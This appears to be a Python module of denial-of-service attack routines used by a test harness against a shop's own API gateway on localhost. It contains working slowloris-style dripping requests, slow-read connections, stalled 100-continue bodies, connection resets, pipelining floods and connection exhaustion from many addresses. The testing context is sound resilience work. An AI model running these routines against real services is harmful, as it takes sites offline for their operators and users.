"""Connections that take a place and give nothing, or take more than their turn."""

import socket
import struct
import time
from collections.abc import Callable
from contextlib import suppress

from hostile.attacker import Attacker
from hostile.wire import request

SMALL_BUFFER = 2048
SWAGGER = "/docs/swagger-ui-bundle.js"
MOST_AT_ONCE = 1024 * 1024


def silent_connections(attack: Attacker) -> None:
    """As many as the gateway serves, from twenty addresses; one that is closed is replaced by another."""
    _keep_open(attack, 3600, 20, lambda client: None)


def silent_connections_of_one_address(attack: Attacker) -> None:
    _keep_open(attack, 3600, 1, lambda client: None)


def connections_idle_after_a_request(attack: Attacker) -> None:
    hello = request("GET", "/health/live")
    _keep_open(attack, 1500, 20, lambda client: client.sendall(hello))


def dripping_heads(attack: Attacker) -> None:
    """Half of them stay in their first lines."""
    line = b"GET /products?q="
    _drip(attack, 1200, [(line, b"a"), (line + b"a HTTP/1.1\r\nHost: localhost\r\nX-Drip: ", b"a")])


def dripping_bodies(attack: Attacker) -> None:
    """Half of them in chunks. A place at a service must not be taken before the body is there."""
    whole = request("POST", "/cart/items", token=attack.target.token, headers=_JSON | {"Content-Length": "10000"})
    chunks = request("POST", "/login", headers=_JSON | {"Transfer-Encoding": "chunked"})
    _drip(attack, 1200, [(whole + b"{", b" "), (chunks + b"1\r\n{\r\n", b"1\r\n \r\n")])


def bodies_that_are_expected(attack: Attacker) -> None:
    """Requests that ask whether they may send their bodies, and then do not."""
    head = request("POST", "/login", headers=_JSON | {"Content-Length": "1000", "Expect": "100-continue"})
    _keep_open(attack, 1200, 20, lambda client: client.sendall(head))


def unfinished_heads_of_27_kilobytes(attack: Attacker) -> None:
    begin = b"GET /products HTTP/1.1\r\nHost: localhost\r\n" + b"".join(
        b"X-%02d: %b\r\n" % (number, b"a" * 900) for number in range(30)
    )
    _keep_open(attack, 1200, 20, lambda client: client.sendall(begin))


def resets(attack: Attacker) -> None:
    """Connections that are reset before they ask, while they do, and before they are answered."""
    whole = request("GET", "/products")
    begun = (b"", whole[:20], whole, request("POST", "/login", b"{" + b" " * 5000)[:-2000])

    def reset(me: int) -> None:
        number = 0
        while attack.goes_on():
            number += 1
            with attack.attempt(), attack.connect(me + number) as client:
                client.sendall(begun[number % len(begun)])
                client.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
                attack.tally["requests"] += 1

    attack.crowd(4, reset)


def slow_readers_of_lists(attack: Attacker) -> None:
    _read_slowly(attack, request("GET", "/products?per_page=100"), 400)


def slow_readers_of_documents(attack: Attacker) -> None:
    """Of the gateway's own large answers: the description of the API, and what shows it."""
    pages = (SWAGGER, "/openapi.json")
    _read_slowly(attack, b"".join(request("GET", page) for page in pages) * 2, 400)


def slow_readers_of_tickets(attack: Attacker) -> None:
    """Tickets as long as an account may write them, asked for again and again."""
    ticket = attack.target.ticket
    for _ in range(30):
        message = {"message": "\u20ac" * 4900}
        attack.ask(request("POST", f"/tickets/{ticket}/messages", message, attack.target.token))
    _read_slowly(attack, request("GET", f"/tickets/{ticket}", token=attack.target.token), 400)


def pipelined_own_pages(attack: Attacker) -> None:
    """Requests that the gateway answers itself, without waiting for an answer; half of the senders ask preflights."""
    pages = ("/", "/nothing/here", "/health/live", "/openapi.json", "/docs", "/robots.txt")
    fields = {"Origin": "http://localhost:3000", "Access-Control-Request-Method": "PUT"}
    batches = (
        b"".join(request("GET", pages[number % len(pages)]) for number in range(200)),
        request("OPTIONS", "/cart/items/1", headers=fields) * 200,
    )
    attack.crowd(4, lambda me: _pipeline(attack, me, batches[me % 2]))


def pipelined_requests(attack: Attacker) -> None:
    batch = request("GET", "/products") * 100
    attack.crowd(4, lambda me: _pipeline(attack, me, batch))


def http_1_0_that_stays(attack: Attacker) -> None:
    """Old connections that promise to stay, hang up in their bodies, or close before the answer."""
    old = request("GET", "/products", headers={"Connection": "keep-alive"}).replace(b"HTTP/1.1", b"HTTP/1.0")
    body = request("POST", "/login", headers=_JSON | {"Content-Length": "500"}).replace(b"HTTP/1.1", b"HTTP/1.0")

    def act(me: int) -> None:
        while attack.goes_on():
            with attack.attempt(), attack.connect(me) as client:
                client.sendall(old * 20)
                attack.tally["requests"] += 20
                while attack.goes_on() and client.recv(65536):
                    pass
            with attack.attempt(), attack.connect(me) as client:
                client.sendall(body + b"{")
                client.shutdown(socket.SHUT_WR)
                attack.tally["requests"] += 1
                client.recv(100)

    attack.crowd(8, act)


def many_requests_in_progress(attack: Attacker) -> None:
    """Three hundred connections of one address, each with a request at a service all the time."""
    wanted = [
        request("GET", target)
        for target in ("/products?per_page=100", "/search?q=a", "/categories", "/products?q=e&sort=price")
    ]
    clients = [client for _ in range(300) if (client := attack.keep(0))]
    while attack.goes_on():
        for number, client in enumerate(clients):
            with suppress(OSError):
                client.setblocking(False)
                with suppress(BlockingIOError):
                    while client.recv(65536):
                        pass
                client.sendall(wanted[number % len(wanted)])
                attack.tally["requests"] += 1
            if not attack.goes_on():
                break
        time.sleep(0.05)


_JSON = {"Content-Type": "application/json"}


def _keep_open(
    attack: Attacker, number: int, addresses: int, greet: Callable[[socket.socket], None]
) -> list[socket.socket]:
    """Open so many connections, and new ones for those that the shop closes, until time is over."""
    clients: list[socket.socket] = []
    opened = 0
    while attack.goes_on():
        if len(clients) >= number:
            clients = [client for client in clients if not _is_closed(client)]
            if len(clients) >= number:
                time.sleep(0.1)
            continue
        opened += 1
        client = attack.keep(opened % addresses)
        if client is None:
            time.sleep(0.02)
            continue
        with attack.attempt():
            greet(client)
        clients.append(client)
        if opened % 500 == 0:
            clients = [client for client in clients if not _is_closed(client)]
    return clients


def _is_closed(client: socket.socket) -> bool:
    client.setblocking(False)
    try:
        while data := client.recv(65536):
            pass
        return not data
    except BlockingIOError:
        return False
    except OSError:
        return True


def _drip(attack: Attacker, number: int, ways: list[tuple[bytes, bytes]]) -> None:
    """Begin so many requests, from twenty addresses, and go on with each by a few bytes a second.

    :param ways: how requests begin, and what drips from then on.
    """
    clients: dict[socket.socket, bytes] = {}
    for each in range(number):
        if attack.goes_on() and (client := attack.keep(each % 20)):
            begin, drop = ways[each % len(ways)]
            with attack.attempt():
                client.sendall(begin)
                clients[client] = drop
    while attack.goes_on():
        for client, drop in list(clients.items()):
            try:
                client.sendall(drop)
                attack.tally["drops"] += 1
            except OSError:
                attack.tally["cut off"] += 1
                del clients[client]
        attack.wait(0.5)


def _read_slowly(attack: Attacker, wanted: bytes, number: int) -> None:
    """So many connections, from twenty addresses, that ask for a lot and take a few bytes a second."""
    clients = []
    for each in range(number):
        if attack.goes_on() and (client := attack.keep(each % 20, SMALL_BUFFER)):
            with attack.attempt():
                client.sendall(wanted * 4)
                attack.tally["requests"] += 1
                client.setblocking(False)
                clients.append(client)
    while attack.goes_on():
        for client in clients:
            with suppress(OSError):
                client.recv(200)
        attack.wait(0.5)


def _pipeline(attack: Attacker, me: int, batch: bytes) -> None:
    """Send without an end, and read whatever comes, so that nothing but the shop's own limits stops it."""
    while attack.goes_on():
        with attack.attempt(), attack.connect(me) as client:
            client.setblocking(False)
            rest = b""
            while attack.goes_on():
                with suppress(BlockingIOError):
                    rest = rest or batch
                    sent = client.send(rest)
                    rest = rest[sent:]
                    attack.tally["bytes"] += sent
                with suppress(BlockingIOError):
                    if not client.recv(MOST_AT_ONCE):
                        break
                time.sleep(0.002)


ATTACKS = (
    silent_connections,
    silent_connections_of_one_address,
    connections_idle_after_a_request,
    dripping_heads,
    dripping_bodies,
    bodies_that_are_expected,
    unfinished_heads_of_27_kilobytes,
    resets,
    slow_readers_of_lists,
    slow_readers_of_documents,
    slow_readers_of_tickets,
    pipelined_own_pages,
    pipelined_requests,
    http_1_0_that_stays,
    many_requests_in_progress,
)
